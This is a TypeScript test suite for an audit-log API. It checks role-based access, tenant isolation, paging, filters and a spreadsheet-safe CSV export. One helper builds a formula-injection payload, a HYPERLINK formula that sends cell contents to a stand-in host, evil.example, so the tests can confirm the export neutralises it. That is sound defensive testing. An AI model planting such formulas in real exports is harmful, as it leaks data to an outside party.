/**
 * The audit viewer (src/audit/audit.routes.ts): GET /api/v1/audit lists the organisation's
 * entries newest first with filters and keyset pages; GET /api/v1/audit/export.csv sends the same
 * selection as a spreadsheet-safe CSV and records that it did. Owners and admins only.
 */
import { describe, expect, it } from "vitest";
import { minRoleFor } from "../../src/access/roles.ts";
import { newTenant, randomClientIp, type Tenant } from "../support/api.ts";
import {
  expectRouteRefusesWithoutValidSession,
  expectRouteRequiresRole,
} from "../support/security.ts";
import { newMember } from "../support/team.ts";
import { allEntries, appendAsOwner, download, type Page, parseCsv } from "./support.ts";

type ApiError = { error: { code: string; details?: { path: string }[] } };

const ROUTES = [
  { method: "GET", path: "/api/v1/audit" },
  { method: "GET", path: "/api/v1/audit/export.csv" },
];

describe.each(ROUTES)("$method $path", (route) => {
  it("refuses every request without a valid session", async () => {
    await expectRouteRefusesWithoutValidSession(route);
  });

  it("is for owners and admins only (audit.read)", async () => {
    await expectRouteRequiresRole(route, minRoleFor("audit.read"));
  });
});

describe("GET /api/v1/audit", () => {
  it("lists the organisation's entries newest first, with who, what, where and the chain", async () => {
    const tenant = await newTenant("Viewer");
    const ip = randomClientIp();
    const revoked = await revokeAll(tenant, { "cf-connecting-ip": ip, "user-agent": "viewer/1.0" });

    const res = await tenant.call<Page>("/api/v1/audit");

    expect(res.status).toBe(200);
    expect(res.body.data.map((e) => [e.seq, e.action])).toEqual([
      [2, "auth.sessions_revoked"],
      [1, "auth.registered"],
    ]);
    expect(res.body.data[0]).toEqual(
      expect.objectContaining({
        actorUserId: tenant.userId,
        actorEmail: tenant.email,
        summary: { includeCurrent: false },
        ip,
        userAgent: "viewer/1.0",
        requestId: revoked,
        prevHash: res.body.data[1]?.hash,
      }),
    );
    expect(res.body.nextCursor).toBeNull();
  });

  it("shows none of another organisation's entries, even asked for by its user", async () => {
    const [mine, theirs] = await Promise.all([newTenant("Mine"), newTenant("Theirs")]);
    await revokeAll(theirs);

    const all = await allEntries(mine);
    const byTheirUser = await allEntries(mine, `actorUserId=${theirs.userId}`);

    expect(all.map((e) => e.actorUserId)).toEqual([mine.userId]);
    expect(byTheirUser).toEqual([]);
  });

  it("pages newest first with nextCursor, without gaps or repeats", async () => {
    const tenant = await newTenant("Pages");
    for (let i = 0; i < 6; i++) await revokeAll(tenant);

    const seen: number[] = [];
    let cursor: string | null = null;
    let pages = 0;
    do {
      const res: { body: Page } = await tenant.call<Page>(
        `/api/v1/audit?limit=3${cursor ? `&cursor=${cursor}` : ""}`,
      );
      seen.push(...res.body.data.map((e) => e.seq));
      cursor = res.body.nextCursor;
      pages++;
    } while (cursor);

    expect(seen).toEqual([7, 6, 5, 4, 3, 2, 1]);
    expect(pages).toBe(3);
  });

  it.each([
    { filter: "actorUserId", query: (t: Team) => `actorUserId=${t.admin.userId}` },
    { filter: "action", query: () => "action=member.invited" },
    { filter: "targetType", query: () => "targetType=invitation" },
    {
      filter: "targetType and targetId",
      query: (t: Team) => `targetType=user&targetId=${t.admin.userId}`,
    },
  ])("filters by $filter", async ({ query }) => {
    const team = await teamWithHistory();
    const all = await allEntries(team.owner);
    const params = new URLSearchParams(query(team));

    const filtered = await allEntries(team.owner, params.toString());

    const expected = all.filter((e) =>
      [...params].every(([key, value]) => String(e[key as keyof typeof e]) === value),
    );
    expect(filtered.length).toBeGreaterThan(0);
    expect(filtered.length).toBeLessThan(all.length);
    expect(filtered).toEqual(expected);
  });

  it("filters by a date range: from is inclusive, to exclusive, a day covers all of it", async () => {
    const team = await teamWithHistory();
    const all = await allEntries(team.owner);
    const middle = all[Math.floor(all.length / 2)];
    if (!middle) throw new Error("no entries");
    const day = middle.createdAt.slice(0, 10);
    const newest = new Date(all[0]?.createdAt ?? middle.createdAt);
    const dayAfterNewest = new Date(newest.getTime() + 86_400_000).toISOString().slice(0, 10);

    const fromMiddle = await allEntries(team.owner, `from=${middle.createdAt}`);
    const toMiddle = await allEntries(team.owner, `to=${middle.createdAt}`);
    const thatDay = await allEntries(team.owner, `from=${day}&to=${day}`);
    const later = await allEntries(team.owner, `from=${dayAfterNewest}`);

    expect(fromMiddle).toEqual(all.filter((e) => e.createdAt >= middle.createdAt));
    expect(toMiddle).toEqual(all.filter((e) => e.createdAt < middle.createdAt));
    expect(fromMiddle.length + toMiddle.length).toBe(all.length);
    expect(thatDay).toEqual(all.filter((e) => e.createdAt.startsWith(day)));
    expect(thatDay).toContainEqual(middle);
    expect(later).toEqual([]);
  });

  it.each([
    { problem: "an org_id parameter", query: `org_id=${crypto.randomUUID()}`, path: "" },
    { problem: "a cursor that is not a seq", query: "cursor=abc", path: "cursor" },
    { problem: "an actor that is not a user id", query: "actorUserId=42", path: "actorUserId" },
    { problem: "an action with spaces", query: "action=auth%20login", path: "action" },
    { problem: "a date that does not exist", query: "from=2026-02-30", path: "from" },
    { problem: "from after to", query: "from=2026-03-02&to=2026-03-01", path: "from" },
    { problem: "a limit of 0", query: "limit=0", path: "limit" },
    { problem: "a limit above 200", query: "limit=201", path: "limit" },
  ])("refuses $problem (400)", async ({ query, path }) => {
    const tenant = await newTenant("Invalid");

    const res = await tenant.call<ApiError>(`/api/v1/audit?${query}`);

    expect(res.status).toBe(400);
    expect(res.body.error.code).toBe("VALIDATION_FAILED");
    expect(res.body.error.details?.map((d) => d.path)).toContain(path);
  });
});

describe("GET /api/v1/audit/export.csv", () => {
  it("sends UTF-8 with a BOM, a header row and the entries the filters select, newest first", async () => {
    const team = await teamWithHistory();
    await appendAsOwner(team.owner.orgId, {
      action: "contact.imported",
      summary: { file: "Clientes de São Paulo, Conceição e Brandão.csv" },
    });
    const listed = await allEntries(team.owner, "targetType=invitation");

    const res = await download(team.owner, "targetType=invitation");
    const all = await download(team.owner);

    expect(res.status).toBe(200);
    expect(res.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(res.headers.get("content-disposition")).toMatch(/^attachment; filename="audit-log-/);
    expect([...res.bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    // The decoder consumes the BOM, as a spreadsheet does.
    const rows = parseCsv(new TextDecoder().decode(res.bytes));
    expect(rows[0]).toEqual([
      "seq",
      "created_at",
      "actor_user_id",
      "actor_email",
      "action",
      "target_type",
      "target_id",
      "summary",
      "ip",
      "user_agent",
      "request_id",
      "prev_hash",
      "hash",
    ]);
    expect(rows.slice(1).map((r) => Number(r[0]))).toEqual(listed.map((e) => e.seq));
    expect(rows.slice(1).map((r) => r[4])).toEqual(listed.map((e) => e.action));
    const text = new TextDecoder().decode(all.bytes);
    expect(text).toContain("Clientes de São Paulo, Conceição e Brandão.csv");
  });

  const formula = (start: string) => `${start}HYPERLINK("https://evil.example/?"&A1,"click")`;

  // A user agent is what any caller writes into the log; fetch trims a header's leading tab and
  // CR, so those two are written as an action by the owner role instead.
  it.each([
    { start: "=", write: (t: Tenant, text: string) => revokeAll(t, { "user-agent": text }) },
    { start: "+", write: (t: Tenant, text: string) => revokeAll(t, { "user-agent": text }) },
    { start: "-", write: (t: Tenant, text: string) => revokeAll(t, { "user-agent": text }) },
    { start: "@", write: (t: Tenant, text: string) => revokeAll(t, { "user-agent": text }) },
    { start: "\t", write: (t: Tenant, text: string) => appendAsOwner(t.orgId, { action: text }) },
    { start: "\r", write: (t: Tenant, text: string) => appendAsOwner(t.orgId, { action: text }) },
  ])(
    "writes a cell starting with $start as text, so no spreadsheet runs it as a formula",
    async ({ start, write }) => {
      const tenant = await newTenant("Formula");
      await write(tenant, formula(start));

      const res = await download(tenant);

      const cells = parseCsv(new TextDecoder().decode(res.bytes)).flat();
      expect(cells).toContain(`'${formula(start)}`);
      expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
    },
  );

  it("records audit.exported with the filters, by the caller, in the request that exported", async () => {
    const tenant = await newTenant("Export");

    const res = await download(tenant, "action=auth.registered&from=2026-01-01");

    const [exported] = await allEntries(tenant, "action=audit.exported");
    expect(exported).toEqual(
      expect.objectContaining({
        actorUserId: tenant.userId,
        requestId: res.headers.get("x-request-id"),
        summary: { format: "csv", filters: { action: "auth.registered", from: "2026-01-01" } },
      }),
    );
    // The export itself does not hold the entry that records it.
    const rows = parseCsv(new TextDecoder().decode(res.bytes));
    expect(rows.slice(1).map((r) => r[4])).toEqual(["auth.registered"]);
  });

  it("holds none of another organisation's entries", async () => {
    const [mine, theirs] = await Promise.all([newTenant("Mine"), newTenant("Theirs")]);
    await revokeAll(theirs);

    const res = await download(mine);

    const text = new TextDecoder().decode(res.bytes);
    expect(text).toContain(mine.userId);
    expect(text).not.toContain(theirs.userId);
    expect(text).not.toContain(theirs.email);
  });
});

type Team = { owner: Tenant; admin: Tenant };

/** An owner who invited an admin (member.invited, member.joined), and a few sessions revoked. */
async function teamWithHistory(): Promise<Team> {
  const owner = await newTenant("History");
  const admin = await newMember(owner, "admin");
  await revokeAll(owner);
  await revokeAll(admin);
  const demoted = await owner.call(`/api/v1/members/${admin.userId}`, {
    method: "PATCH",
    body: { role: "member" },
  });
  if (demoted.status !== 200)
    throw new Error(`role change failed: ${JSON.stringify(demoted.body)}`);
  const restored = await owner.call(`/api/v1/members/${admin.userId}`, {
    method: "PATCH",
    body: { role: "admin" },
  });
  if (restored.status !== 200) throw new Error("role change failed");
  return { owner, admin };
}

/** An audited request (auth.sessions_revoked); answers its request id. */
async function revokeAll(tenant: Tenant, headers: Record<string, string> = {}): Promise<string> {
  const res = await tenant.call("/api/v1/auth/sessions/revoke-all", {
    method: "POST",
    body: {},
    headers,
  });
  if (res.status !== 200) throw new Error(`revoke-all failed: ${JSON.stringify(res.body)}`);
  return res.headers.get("x-request-id") ?? "";
}
